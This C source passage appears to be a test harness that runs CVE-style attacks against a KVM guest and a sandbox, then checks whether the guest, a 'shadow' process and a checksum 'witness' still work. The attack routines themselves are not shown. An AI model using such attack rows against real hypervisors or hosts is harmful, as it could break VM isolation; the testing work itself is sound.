	signal(SIGUSR1, on_signal);
	attacker = pthread_self();
	on_death = shadow_died;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		size_t len = strlen(rows[i].id);

		if (rows[i].id[len - 1] == '-' ? !strncmp(id, rows[i].id, len) : !strcmp(id, rows[i].id))
			row = &rows[i];
	}
	if (!row)
		result("broken", "nothing is known of this row");
	kvm = open("/dev/kvm", O_RDWR | O_CLOEXEC);
	if (kvm < 0)
		result("broken", "/dev/kvm: %s", strerror(errno));
	shadow = first_child(first_child(getpid()));
	/* It made a thread once, to warm libc up, which may still be on its way out of the kernel. */
	for (int i = 0; i < 100 && shadow && entries("/proc/%d/task") > 1; i++)
		pause_ms(10);
	sandbox_check("at its start");
	machine_open(row->machine);
	sandbox_check("with its VM");
	if (row->machine & SPINS && pthread_create(&watcher, NULL, watch, NULL))
		result("broken", "thread");
	row->attack();
	/* It took no harm, for all that can be seen: then what was asked for must still work, and the shadow be there. */
	atomic_store(&finished, 1);
	go();
	result("nothing", "guest and shadow go on");
}

/* ---- the witness ---- */

#define BLOCK 0x10000u /* bytes that are summed up */

int witness_main(const char *path)
{
	int fd = open(path, O_RDWR | O_CREAT, 0600);
	struct witness *witness;
	uint32_t sum, *words;

	if (fd < 0 || ftruncate(fd, 4096))
		return 1;
	witness = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	kvm = open("/dev/kvm", O_RDWR | O_CLOEXEC);
	if (witness == MAP_FAILED || kvm < 0)
		return 1;
	on_death = shadow_died;
	machine_open(0);
	words = (uint32_t *)(ram + GUEST_DATA);
	for (uint32_t at = 0; at < BLOCK; at += 16)
		memcpy(ram + GUEST_DATA + at, WITNESS_MARK, 16);
	for (uint32_t round = 1;; round++) {
		words[0] = round;
		sum = 0;
		for (uint32_t i = 0; i < BLOCK / 4; i++) {
			sum += words[i];
			sum = sum << 1 | sum >> 31;
		}
		set_reg(0, 0);
		set_reg(6, GUEST_DATA);
		set_reg(1, BLOCK / 4);
		EMIT("\x03\x06\xd1\xc0\x83\xc6\x04\xe2\xf7"); /* add eax, [esi]; rol eax, 1; add esi, 4; loop */
		say_eax();
		if (guest_run(0) || seen.count != 1 || seen.said[0] != sum)
			witness->errors++;
		else
			witness->rounds++;
		pause_ms(20);
	}
}

int main(int argc, char **argv)
{
	if (argc == 6 && !strcmp(argv[1], "all"))
		return all_main(argv[2], argv[3], argv[4], argv[5]);
	if (argc == 3 && !strcmp(argv[1], "row"))
		return row_main(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "witness"))
		return witness_main(argv[2]);
	fprintf(stderr, "usage: see cve.h\n");
	return 2;
}
